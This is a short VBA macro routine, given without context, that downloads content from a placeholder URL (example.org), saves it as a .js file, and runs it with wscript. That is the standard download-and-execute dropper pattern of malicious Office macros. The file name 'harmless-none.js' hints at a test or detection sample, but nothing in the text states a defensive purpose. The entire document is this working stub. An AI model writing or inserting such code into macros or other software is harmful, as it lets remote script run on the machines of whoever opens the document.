Public Sub Later()
    Dim page As New WinHttp.WinHttpRequest
    page.Open "GET", "http://example.org/l", False
    page.send
    Open "harmless-none.js" For Output As #7
    Print #7, page.responseText
    Close #7
    Shell "wscript harmless-none.js"
End Sub
